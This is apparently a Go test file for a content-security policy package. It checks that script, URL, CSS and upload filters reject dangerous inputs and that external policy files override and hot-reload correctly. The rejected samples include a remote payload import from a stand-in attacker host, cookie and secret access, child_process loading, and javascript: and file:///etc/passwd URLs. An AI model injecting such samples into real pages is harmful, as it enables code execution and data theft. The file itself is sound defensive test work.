package policy

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestDefaultPolicyScriptDeny(t *testing.T) {
	p := defaultPolicy()

	bad := []string{
		`eval('1+1')`,
		`const f = new Function("return 1")`,
		`setTimeout(() => steal(), 0)`,
		`setInterval(poll, 100)`,
		`const cp = require("child_process")`,
		`process.env.SECRET`,
		`global.leak = document.cookie`,
		`import("https://evil.example/payload.js")`,
		`window.location = "http://evil.example"`,
		`location.assign("http://evil.example")`,
		`new XMLHttpRequest()`,
		`fetch("/admin")`,
		`({}).__proto__.polluted = true`,
	}
	for _, src := range bad {
		if err := p.CheckScript(src); err == nil {
			t.Errorf("CheckScript(%q) passed, want rejection", src)
		}
	}

	good := []string{
		`document.querySelector("h1").textContent`,
		`window.scrollTo(0, 100)`,
		`JSON.stringify([1,2,3])`,
	}
	for _, src := range good {
		if err := p.CheckScript(src); err != nil {
			t.Errorf("CheckScript(%q) rejected: %v", src, err)
		}
	}
}

func TestDefaultPolicyURLSchemes(t *testing.T) {
	p := defaultPolicy()

	for _, u := range []string{"https://example.com", "http://localhost:8080/x", "about:blank"} {
		if err := p.CheckURL(u); err != nil {
			t.Errorf("CheckURL(%q) rejected: %v", u, err)
		}
	}
	for _, u := range []string{"javascript:alert(1)", "file:///etc/passwd", "data:text/html,hi", "no-scheme"} {
		if err := p.CheckURL(u); err == nil {
			t.Errorf("CheckURL(%q) passed, want rejection", u)
		}
	}
}

func TestDefaultPolicyCSS(t *testing.T) {
	p := defaultPolicy()
	bad := []string{
		`body { background: url("javascript:alert(1)") }`,
		`div { behavior: url(evil.htc) }`,
		`div { BEHAVIOR: url(evil.htc) }`,
		`@import url("data:text/css;base64,c2NyaXB0")`,
		`@import url( 'data:text/css,body{}' )`,
	}
	for _, css := range bad {
		if err := p.CheckCSS(css); err == nil {
			t.Errorf("CheckCSS(%q) passed, want rejection", css)
		}
	}
	good := []string{
		`body { color: red }`,
		`@import url("https://example.com/theme.css")`,
	}
	for _, css := range good {
		if err := p.CheckCSS(css); err != nil {
			t.Errorf("CheckCSS(%q) rejected: %v", css, err)
		}
	}
}

func TestDefaultPolicyAdvisories(t *testing.T) {
	p := defaultPolicy()

	warns := p.Advisories(`localStorage.setItem("k", window.opener.name)`)
	if len(warns) != 2 || warns[0] != "localStorage" || warns[1] != "window.opener" {
		t.Errorf("Advisories = %v, want [localStorage window.opener]", warns)
	}
	if warns := p.Advisories(`document.title`); len(warns) != 0 {
		t.Errorf("Advisories on benign script = %v", warns)
	}
}

func TestDefaultPolicyUpload(t *testing.T) {
	p := defaultPolicy()
	if err := p.CheckUpload("/tmp/payload.EXE"); err == nil {
		t.Error("executable upload passed")
	}
	if err := p.CheckUpload("/tmp/report.pdf"); err != nil {
		t.Errorf("pdf upload rejected: %v", err)
	}
}

func TestManagerExternalOverride(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	content := []byte("script_deny:\n  - dangerousCall(\n")
	if err := os.WriteFile(path, content, 0o600); err != nil {
		t.Fatal(err)
	}

	m, err := NewManager(path, false)
	if err != nil {
		t.Fatalf("NewManager: %v", err)
	}
	defer m.Close()

	p := m.Get()
	if err := p.CheckScript("dangerousCall()"); err == nil {
		t.Error("external pattern not applied")
	}
	// Embedded patterns are replaced, not merged, when overridden.
	if err := p.CheckScript(`require("fs")`); err != nil {
		t.Errorf("overridden deny list still matched embedded pattern: %v", err)
	}
	// Unset fields fall back to embedded defaults.
	if err := p.CheckURL("file:///etc/passwd"); err == nil {
		t.Error("embedded scheme list not preserved")
	}
}

func TestManagerBadFileKeepsDefaults(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	os.WriteFile(path, []byte("{{{not yaml"), 0o600)

	m, err := NewManager(path, false)
	if err != nil {
		t.Fatalf("NewManager: %v", err)
	}
	defer m.Close()

	if err := m.Get().CheckScript(`require("fs")`); err == nil {
		t.Error("embedded defaults lost after bad file")
	}
	if m.Stats().LastError == nil {
		t.Error("load failure not recorded in stats")
	}
}

func TestManagerHotReload(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	os.WriteFile(path, []byte("script_deny:\n  - firstPattern(\n"), 0o600)

	m, err := NewManager(path, true)
	if err != nil {
		t.Fatalf("NewManager: %v", err)
	}
	defer m.Close()

	os.WriteFile(path, []byte("script_deny:\n  - secondPattern(\n"), 0o600)

	deadline := time.Now().Add(3 * time.Second)
	for {
		if err := m.Get().CheckScript("secondPattern()"); err != nil {
			return // reloaded
		}
		if time.Now().After(deadline) {
			t.Fatal("policy never hot-reloaded")
		}
		time.Sleep(20 * time.Millisecond)
	}
}
